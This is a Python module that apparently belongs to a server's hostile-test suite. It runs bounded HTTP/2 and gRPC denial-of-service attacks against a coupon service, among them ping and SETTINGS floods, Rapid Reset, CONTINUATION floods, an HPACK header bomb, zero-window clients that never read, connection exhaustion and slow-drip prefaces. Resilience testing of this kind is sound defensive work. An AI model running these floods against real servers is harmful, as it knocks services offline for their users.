# SPDX-License-Identifier: Apache-2.0
"""Attacks by volume, by rate, or by slowness. Each runs in its own process, takes the server's address, and returns its
result as text for people to read.

Each ends by itself after about SECONDS, no matter what the server does.
"""

import errno
import resource
import select
import socket
import ssl
import struct
import time

from tests.hostile import h2
from tests.hostile.h2 import CONTINUATION, DATA, HEADERS, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame

SECONDS = 2
# The preface, with an acknowledgement of settings that may not have come yet. A client may open more streams only after
# this acknowledgement.
BEGINNING = PREFACE + h2.settings() + frame(SETTINGS, h2.ACK)
GET_COUPON = "/coupon.v1.CouponAdminService/GetCoupon"
CREATE_COUPON = "/coupon.v1.CouponAdminService/CreateCoupon"
WATCH_STATUS = "/coupon.v1.CouponService/WatchStatus"
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
MIB = 1 << 20


# --- as fast as possible ---

def pour(connection, chunks, deadline, reads, bytes_max):
    """Sends the chunks, each a pair (number of items, bytes). Returns how many items and bytes went out, and whether
    the server closed the connection."""
    connection.socket.setblocking(False)
    count = sent = 0
    for number, chunk in chunks:
        rest = memoryview(chunk)
        while rest:
            left = deadline - time.monotonic()
            if left <= 0 or sent > bytes_max:
                return count, sent, False
            readable, writable, _ = select.select([connection.socket] if reads else [], [connection.socket], [], left)
            try:
                if readable and not connection.socket.recv(1 << 18):
                    return count, sent, True
                if writable:
                    n = connection.socket.send(rest)
                    sent, rest = sent + n, rest[n:]
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                pass
            except OSError:
                return count, sent, True
        count += number
    return count, sent, False


def flood(address, chunks, what="frames", preface=BEGINNING, reads=True, bytes_max=1 << 40,
          seconds=SECONDS):
    """Floods one connection after another: when the server closes one, it opens the next, with a new chunks()."""
    start = time.monotonic()
    count = sent = closed = connections = 0
    while time.monotonic() < start + seconds and sent <= bytes_max:
        try:
            with h2.Connection(address, preface) as connection:
                connections += 1
                more = pour(connection, chunks(), start + seconds, reads, bytes_max - sent)
        except (OSError, h2.Closed):
            closed += 1
            continue
        count, sent, closed = count + more[0], sent + more[1], closed + more[2]
        if not more[2]:
            break
    took = time.monotonic() - start
    return (f"{count} {what}, {sent / MIB:.1f} MiB in {took:.1f} s on {connections} connections, "
            f"{closed} closed by the server")


def again(one, at_once=500, first=b""):
    """Sends `first`, then the same bytes forever."""
    def chunks():
        yield 0, first
        while True:
            yield at_once, one * at_once
    return chunks


def streams(make, at_once=250):
    """make(stream) gives bytes for one stream after another."""
    def chunks():
        for first in range(1, 1 << 31, 2 * at_once):
            yield at_once, b"".join(map(make, range(first, first + 2 * at_once, 2)))
    return chunks


def pings(address):
    return flood(address, again(frame(PING, payload=bytes(8))), "pings")


def pings_without_reading(address):
    return flood(address, again(frame(PING, payload=bytes(8))), "pings", reads=False)


def acknowledgements(address):
    return flood(address, again(frame(PING, h2.ACK, payload=bytes(8)) + frame(SETTINGS, h2.ACK)), "acknowledgements")


def settings(address):
    return flood(address, again(h2.settings(s4=65535)), "SETTINGS")


def settings_without_reading(address):
    return flood(address, again(h2.settings(s4=65535)), "SETTINGS", reads=False)


def priorities(address):
    return flood(address, streams(lambda stream: frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 1))), "PRIORITY")


def window_updates(address):
    return flood(address, again(frame(WINDOW_UPDATE, payload=struct.pack(">I", 0))), "WINDOW_UPDATE of 0")


def unknown_frames(address):
    return flood(address, again(frame(0x42, 0xFF, 0, bytes(8))), "frames of an unknown type")


def empty_data(address):
    opened = frame(HEADERS, h2.END_HEADERS, 1, h2.request_block(GET_COUPON))
    return flood(address, again(frame(DATA, 0, 1), first=opened), "empty DATA")


def rapid_reset(address):
    block = h2.request_block(GET_COUPON)
    cancel = struct.pack(">I", 8)
    return flood(address, streams(
        lambda stream: frame(HEADERS, h2.END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel)),
        "streams opened and reset", seconds=4)


def rapid_reset_of_whole_calls(address):
    block, body = h2.request_block(GET_COUPON), h2.message(h2.field(1, 1))
    cancel = struct.pack(">I", 8)
    return flood(address, streams(
        lambda stream: frame(HEADERS, h2.END_HEADERS, stream, block) + frame(DATA, h2.END_STREAM, stream, body) +
        frame(RST_STREAM, 0, stream, cancel)), "calls made and reset")


def made_to_reset(address):
    """Sends an illegal frame on each stream, so that the server resets it."""
    block, nothing = h2.request_block(GET_COUPON), struct.pack(">I", 0)
    return flood(address, streams(
        lambda stream: frame(HEADERS, h2.END_HEADERS, stream, block) + frame(WINDOW_UPDATE, 0, stream, nothing)),
        "streams opened and broken")


def unknown_methods(address):
    block = h2.request_block("/no.Service/Method")
    return flood(address, streams(lambda stream: frame(HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, block)),
                 "calls of nothing")


def continuations(address):
    """A header block that never ends, of complete headers."""
    header = h2.header("x", bytes(16384 - 5).replace(b"\0", b"a"))[:16384]
    opened = frame(HEADERS, 0, 1, h2.request_block(GET_COUPON))
    return flood(address, again(frame(CONTINUATION, 0, 1, header), at_once=4, first=opened), "CONTINUATION",
                 bytes_max=300 * MIB, seconds=4)


def continuations_of_small_headers(address):
    header = h2.header("x", "y") * 2700
    opened = frame(HEADERS, 0, 1, h2.request_block(GET_COUPON))
    return flood(address, again(frame(CONTINUATION, 0, 1, header), at_once=4, first=opened), "CONTINUATION",
                 bytes_max=300 * MIB, seconds=4)


def empty_continuations(address):
    opened = frame(HEADERS, 0, 1, h2.request_block(GET_COUPON))
    return flood(address, again(frame(CONTINUATION, 0, 1), first=opened), "empty CONTINUATION")


def endless_string(address):
    """A header that announces a value of 2 GB, and then sends it."""
    opened = frame(HEADERS, 0, 1, h2.request_block(GET_COUPON) + b"\x00" + h2.string("x") + h2.integer(1 << 31, 7))
    return flood(address, again(frame(CONTINUATION, 0, 1, b"a" * 16384), at_once=4, first=opened), "CONTINUATION",
                 bytes_max=300 * MIB, seconds=4)


def indexed_bomb(address):
    """Puts one header of 4,000 bytes into the table, and then refers to it with one byte per copy."""
    entry = b"\x40" + h2.string("x") + h2.string("a" * 4000)
    block = h2.request_block(GET_COUPON) + entry + b"\xbe" * 12000
    return flood(address, streams(lambda stream: frame(HEADERS, h2.END_HEADERS, stream, block), at_once=4),
                 "header blocks of 48 MB each", seconds=4)


def streams_before_settings(address):
    block = h2.request_block(CREATE_COUPON)
    return flood(address, streams(lambda stream: frame(HEADERS, h2.END_HEADERS, stream, block)), "streams",
                 preface=PREFACE + h2.settings())


def large_message_at_once(address):
    """A message of 100 MB with an honest length, sent without regard to the server's windows."""
    opened = frame(HEADERS, h2.END_HEADERS, 1, h2.request_block(CREATE_COUPON))
    opened += frame(DATA, 0, 1, h2.message(b"", length=100_000_000))
    return flood(address, again(frame(DATA, 0, 1, bytes(16384)), at_once=4, first=opened), "DATA",
                 bytes_max=100_000_000, seconds=4)


def large_message(address, count=1):
    """A message of 100 MB on each of many streams, sent as the server's windows allow."""
    with h2.Connection(address) as connection:
        windows, left = {0: 65535}, {}
        initial, told = 65535, "no status"
        for _ in range(count):
            stream = connection.open(CREATE_COUPON)
            windows[stream] = initial
            connection.send(frame(DATA, 0, stream, h2.message(b"", length=100_000_000)))
            windows[0] -= 5
            windows[stream] -= 5
            left[stream] = 100_000_000
        start = time.monotonic()
        while len(windows) > 1 and time.monotonic() < start + 5:
            stream = max((one for one in windows if one), key=lambda one: min(windows[one], left[one]))
            size = min(16384, windows[0], windows[stream], left[stream])
            if size > 0:
                connection.send(frame(DATA, 0, stream, bytes(size)))
                windows[0] -= size
                windows[stream] -= size
                left[stream] -= size
            got = connection.frame(time.monotonic() + (0 if size > 0 else 0.1))
            if not got:
                continue
            kind, flags, stream, payload = got
            if kind == WINDOW_UPDATE and stream in windows:
                windows[stream] += struct.unpack(">I", payload)[0]
            elif kind == SETTINGS and not flags & h2.ACK:
                values = dict(struct.iter_unpack(">HI", payload))
                more = values.get(h2.INITIAL_WINDOW_SIZE, initial) - initial
                windows = {one: window + (more if one else 0) for one, window in windows.items()}
                initial += more
                connection.send(frame(SETTINGS, h2.ACK))
            elif kind == PING and not flags & h2.ACK:
                connection.send(frame(PING, h2.ACK, payload=payload))
            elif kind == HEADERS:
                found = connection.headers.read(payload)
                told = f"status {found['grpc-status'].decode()}" if "grpc-status" in found else told
                windows.pop(stream, None)
            elif kind == RST_STREAM:
                windows.pop(stream, None)
        sent = count * 100_000_000 - sum(left.values())
        return f"{sent / MIB:.1f} MiB sent in {time.monotonic() - start:.1f} s, {told}"


def large_messages_on_many_streams(address):
    """Messages just under the size limit that never complete, so that the server keeps 64 KB for each."""
    block, part = h2.request_block(CREATE_COUPON), h2.message(bytes(16000), length=65000)
    return flood(address, streams(
        lambda stream: frame(HEADERS, h2.END_HEADERS, stream, block) + frame(DATA, 0, stream, part), at_once=20),
        "half messages", bytes_max=200 * MIB)


def calls_without_message(address):
    block = h2.request_block(CREATE_COUPON)
    return flood(address, streams(lambda stream: frame(HEADERS, h2.END_HEADERS, stream, block)),
                 "calls that wait for their message", bytes_max=6 * MIB)


# --- clients that do not read ---

def never_reading(address, make, what, count, frames_each=1):
    """Calls on one connection whose streams have a window of 0 bytes."""
    with h2.Connection(address, PREFACE + h2.settings(s4=0) + frame(SETTINGS, h2.ACK)) as connection:
        def chunks():
            for stream in range(1, 2 * count, 2):
                yield frames_each, make(stream)
            while True:  # keep the connection open
                yield 0, frame(0x42)
                time.sleep(0.01)
        told = pour(connection, chunks(), time.monotonic() + SECONDS, False, 1 << 40)
        return f"{told[0]} {what}" + (", closed by the server" if told[2] else ", none of the answers read")


def never_reading_watchers(address):
    block, body = h2.request_block(WATCH_STATUS), h2.message(h2.field(1, 1) + h2.field(2, 1))
    return never_reading(address, lambda stream: frame(HEADERS, h2.END_HEADERS, stream, block) +
                         frame(DATA, h2.END_STREAM, stream, body), "watchers", 2000)


def never_reading_reflection(address):
    """Calls whose answers have some kilobytes each."""
    block = h2.request_block(REFLECTION)
    body = h2.message(h2.field(4, b"coupon.v1.CouponAdminService")) * 100
    return never_reading(address, lambda stream: frame(HEADERS, h2.END_HEADERS, stream, block) +
                         frame(DATA, 0, stream, body), "questions about the services", 500, 100)


# --- connections ---

def raise_limit():
    """Raises the limit of open files to the hard limit and returns it."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


def open_many(address, count):
    host, port = address.rsplit(":", 1)
    sockets = []
    for _ in range(count):
        try:
            one = socket.create_connection((host, int(port)), 5, (h2.ATTACKER, 0))
        except OSError as error:
            if error.errno == errno.EMFILE:
                break
            continue
        one.setblocking(False)
        sockets.append(one)
    return sockets


def wait_for_closes(sockets, deadline):
    """Returns the sockets that are still open at the deadline."""
    poller = select.poll()
    by_number = {one.fileno(): one for one in sockets}
    for number in by_number:
        poller.register(number, select.POLLIN)
    while by_number and time.monotonic() < deadline:
        for number, _ in poller.poll(100):
            try:
                closed = not by_number[number].recv(1 << 16)
            except OSError:
                closed = True
            if closed:
                poller.unregister(number)
                by_number.pop(number).close()
    return list(by_number.values())


def half_open(address, count=10_000, seconds=20):
    """A third of the connections send nothing, a third half of the preface, and a third the preface and no more."""
    most = raise_limit() - 100
    start = time.monotonic()
    sockets = open_many(address, min(count, most))
    opened = time.monotonic() - start
    for number, one in enumerate(sockets):
        try:
            one.send((b"", PREFACE[:12], PREFACE)[number % 3])
        except OSError:
            pass
    left = wait_for_closes(sockets, start + seconds)
    took = time.monotonic() - start
    short = "" if most >= count else f" (no more than {most} files are allowed)"
    return f"{len(sockets)} opened in {opened:.1f} s{short}, {len(left)} still open after {took:.1f} s"


def too_many(address, count=2_000):
    """Many proper connections, each with SETTINGS."""
    raise_limit()
    sockets = open_many(address, count)
    for one in sockets:
        try:
            one.send(PREFACE + h2.settings())
        except OSError:
            pass
    left = wait_for_closes(sockets, time.monotonic() + 2)
    return f"{len(sockets)} connected, {len(left)} kept"


def come_and_go(address):
    """Connects and closes, again and again."""
    host, port = address.rsplit(":", 1)
    count, refused, deadline = 0, 0, time.monotonic() + SECONDS
    while time.monotonic() < deadline:
        with socket.socket() as one:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # RST leaves no TIME_WAIT
            one.bind((h2.ATTACKER, 0))
            try:
                one.connect((host, int(port)))
                one.send(PREFACE + h2.settings())
            except ConnectionError:
                refused += 1
        count += 1
    return f"{count} connections one after another, {refused} of them reset by the server before anything was sent"


def calls_one_by_one(address, count):
    """Calls with a connection each. This is not an attack."""
    body = h2.message(h2.field(1, 1))
    for _ in range(count):
        with h2.Connection(address) as connection:
            told = connection.call(GET_COUPON, body)
            assert told[0] == 5, told
    return f"{count} calls answered"


# --- as slowly as possible ---

def drip(address, first, data, seconds):
    """Sends `first` immediately and then one byte per 100 ms, on each of 200 connections."""
    sockets = open_many(address, 200)
    start = time.monotonic()
    for at in range(-1, len(data)):
        if time.monotonic() > start + seconds:
            break
        for one in sockets:
            try:
                one.send(data[at:at + 1] if at >= 0 else first)
            except OSError:
                pass
        time.sleep(max(0, start + (at + 1) / 10 - time.monotonic()))
    left = wait_for_closes(sockets, time.monotonic() + 0.1)
    return f"{len(sockets)} connections, {len(left)} open after {time.monotonic() - start:.1f} s"


def slow_preface(address):
    """The preface with its SETTINGS, so slowly that it exceeds the handshake's time-out, which no byte extends."""
    return drip(address, b"", PREFACE + frame(SETTINGS, payload=struct.pack(">HI", h2.INITIAL_WINDOW_SIZE, 65535) * 30),
                12)


def slow_headers(address):
    block = h2.request_block(GET_COUPON)
    return drip(address, PREFACE + h2.settings(), frame(HEADERS, h2.END_HEADERS, 1, block), SECONDS)
